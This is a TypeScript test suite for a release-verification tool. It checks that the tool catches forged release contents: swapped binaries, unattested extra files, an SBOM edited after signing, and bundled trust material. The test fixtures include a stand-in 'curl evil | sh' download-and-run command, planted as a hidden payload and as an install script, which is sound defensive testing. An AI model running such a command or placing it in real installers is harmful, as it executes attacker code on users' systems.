// Attacks on "what was released": renamed and swapped files, files nobody attested, an SBOM
// document edited after its attestation was signed, trust material shipped inside the release.
// Every release here is signed by the allowed signer: only the contents are forged.
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifiedFiles } from '../../src/ci/github/actions/verify.js';
import { canonicalJSON } from '../../src/util/canonical-json.js';
import { failedCodes, Forge, ISSUER, sha256, type Builder } from './forge.js';

let forge: Forge;
let policyFile: string;

const ACME: Builder = {
  repository: 'acme/app',
  workflowRef: 'acme/app/.github/workflows/release.yml@refs/tags/v1.0.0',
};
const FLAGS = { signerWorkflow: 'acme/app/.github/workflows/release.yml' };
const TWO = { 'app-linux-amd64': 'linux binary v1\n', 'app-darwin-arm64': 'darwin binary v1\n' };

function policy(extra = ''): string {
  return `apiVersion: custody.dev/v1alpha1
kind: ReleasePolicy
metadata: { name: adversarial }
spec:
  signers:
    - issuer: ${ISSUER}
      signerWorkflow: acme/app/.github/workflows/release.yml
  checksums: { required: false, signed: false }
  sbom: { required: false }
${extra}`;
}

beforeAll(async () => {
  forge = await Forge.start();
  policyFile = path.join(forge.root, 'policy.yaml');
  await writeFile(policyFile, policy());
}, 60_000);

afterAll(async () => {
  await forge?.close();
});

describe('names bound to digests', () => {
  it('a binary renamed to another artifact’s name, no checksums file: VERIFY_SUBJECT_NAME_MISMATCH', async () => {
    const dir = await forge.release(ACME, TWO, { checksums: false });
    // The linux binary (attested as app-linux-amd64) shipped as the darwin one.
    await writeFile(path.join(dir, 'app-darwin-arm64'), TWO['app-linux-amd64']);
    const report = await forge.verify(dir, FLAGS);
    expect(failedCodes(report)).toEqual(['VERIFY_SUBJECT_NAME_MISMATCH']);
    const darwin = report.artifacts.find((a) => a.name === 'app-darwin-arm64')!;
    expect(darwin.checks.find((c) => c.id === 'provenance.subject-name')?.status).toBe('fail');
  });

  it('an older signed build of another artifact swapped in under this name: VERIFY_SUBJECT_NAME_MISMATCH', async () => {
    const old = {
      'app-linux-amd64': 'linux binary v0.9\n',
      'app-darwin-arm64': 'darwin binary v0.9\n',
    };
    const oldRelease = await forge.release(
      {
        ...ACME,
        workflowRef: ACME.workflowRef.replace('v1.0.0', 'v0.9.0'),
        ref: 'refs/tags/v0.9.0',
      },
      old,
      { checksums: false }
    );
    const dir = await forge.release(ACME, TWO, { checksums: false });
    await writeFile(path.join(dir, 'app-linux-amd64'), old['app-darwin-arm64']);
    await writeFile(
      path.join(dir, 'old.intoto.jsonl'),
      await readFile(path.join(oldRelease, 'provenance.intoto.jsonl'))
    );
    expect(failedCodes(await forge.verify(dir, FLAGS))).toEqual(['VERIFY_SUBJECT_NAME_MISMATCH']);
  });

  it('the same rename with a signed checksums file: VERIFY_CHECKSUM_MISMATCH', async () => {
    const dir = await forge.release(ACME, TWO);
    await writeFile(path.join(dir, 'app-darwin-arm64'), TWO['app-linux-amd64']);
    // The signed checksums catch it; the name is then not bound either.
    expect(failedCodes(await forge.verify(dir, FLAGS))).toEqual([
      'VERIFY_CHECKSUM_MISMATCH',
      'VERIFY_SUBJECT_NAME_MISMATCH',
    ]);
  });

  it('the honest release passes with and without a checksums file', async () => {
    expect((await forge.verify(await forge.release(ACME, TWO), FLAGS)).verdict).toBe('PASS');
    expect(
      (await forge.verify(await forge.release(ACME, TWO, { checksums: false }), FLAGS)).verdict
    ).toBe('PASS');
  });
});

describe('nothing in the release goes unverified', () => {
  it('extra checksum and signature files nobody attested fail a policy-file verification: VERIFY_FILE_UNVERIFIED', async () => {
    const dir = await forge.release(ACME, TWO, {
      extra: {
        'checksums.txt': `${sha256('evil')}  app-linux-amd64\n`,
        SHA512SUMS: 'deadbeef  app-linux-amd64\n',
        'app-linux-amd64.sig': 'MEUCIQ...',
        'app-linux-amd64.asc': '-----BEGIN PGP SIGNATURE-----\n',
        '.hidden-payload': 'curl evil | sh\n',
      },
    });
    const report = await forge.verify(dir, {}, { policyFile });
    expect(failedCodes(report)).toEqual(['VERIFY_FILE_UNVERIFIED']);
    const check = report.release.checks.find((c) => c.id === 'release.files')!;
    expect(check.evidence?.unverified).toEqual([
      '.hidden-payload',
      'SHA512SUMS',
      'app-linux-amd64.asc',
      'app-linux-amd64.sig',
      'checksums.txt',
    ]);
    // The flag-only policy (gh semantics) lists them without failing, and never publishes them.
    const flagOnly = await forge.verify(dir, FLAGS);
    expect(flagOnly.verdict).toBe('PASS');
    expect(verifiedFiles(flagOnly)).not.toContain('checksums.txt');
    expect(verifiedFiles(flagOnly)).toEqual([
      'SHA256SUMS',
      'SHA256SUMS.sigstore.json',
      'app-darwin-arm64',
      'app-linux-amd64',
      'provenance.intoto.jsonl',
    ]);
  });

  it('a policy glob allows named unverified files, and only those', async () => {
    const allowing = path.join(forge.root, 'allowing.yaml');
    await writeFile(allowing, policy("  files: { allowUnverified: ['*.asc', 'NOTES.md'] }\n"));
    const dir = await forge.release(ACME, TWO, {
      extra: { 'app-linux-amd64.asc': 'sig', 'NOTES.md': '# notes\n' },
    });
    expect((await forge.verify(dir, {}, { policyFile: allowing })).verdict).toBe('PASS');
    // Anything else is an artifact that must be listed and attested.
    await writeFile(path.join(dir, 'install.sh'), 'curl evil | sh\n');
    expect(failedCodes(await forge.verify(dir, {}, { policyFile: allowing }))).toEqual([
      'VERIFY_CHECKSUM_MISSING',
      'VERIFY_PROVENANCE_MISSING',
    ]);
  });

  it('an SBOM document edited after its attestation was signed: VERIFY_FILE_UNVERIFIED', async () => {
    const bom = {
      bomFormat: 'CycloneDX',
      specVersion: '1.6',
      version: 1,
      components: [
        { type: 'library', name: 'left-pad', version: '1.3.0', purl: 'pkg:npm/left-pad@1.3.0' },
      ],
    };
    const subject = Object.entries(TWO).map(([name, content]) => ({
      name,
      digest: { sha256: sha256(content) },
    }));
    const sbomLine = await forge.signedLine(
      {
        _type: 'https://in-toto.io/Statement/v1',
        subject,
        predicateType: 'https://cyclonedx.org/bom',
        predicate: bom,
      },
      ACME
    );
    const honest = await forge.release(ACME, TWO, {
      extra: { 'sbom.intoto.jsonl': sbomLine, 'app.cdx.json': `${JSON.stringify(bom, null, 2)}\n` },
    });
    expect((await forge.verify(honest, {}, { policyFile })).verdict).toBe('PASS');
    const edited = await forge.release(ACME, TWO, {
      extra: {
        'sbom.intoto.jsonl': sbomLine,
        // left-pad swapped for a look-alike after signing
        'app.cdx.json': canonicalJSON({
          ...bom,
          components: [{ ...bom.components[0], name: 'left-pad-ng' }],
        }),
      },
    });
    const report = await forge.verify(edited, {}, { policyFile });
    expect(failedCodes(report)).toEqual(['VERIFY_FILE_UNVERIFIED']);
    expect(report.summary.failures[0]?.message).toContain('app.cdx.json (SBOM document differs');
  });

  it('trust material and a policy shipped inside the release are unverified and never published', async () => {
    const dir = await forge.release(ACME, TWO, {
      extra: {
        'trusted_root.json': JSON.stringify(forge.stack.trustedRoot),
        'custody-policy.yaml': policy(),
      },
    });
    const report = await forge.verify(dir, {}, { policyFile });
    expect(failedCodes(report)).toEqual(['VERIFY_FILE_UNVERIFIED']);
    const flagOnly = await forge.verify(dir, FLAGS);
    expect(verifiedFiles(flagOnly)).not.toContain('trusted_root.json');
    expect(verifiedFiles(flagOnly)).not.toContain('custody-policy.yaml');
  });
});
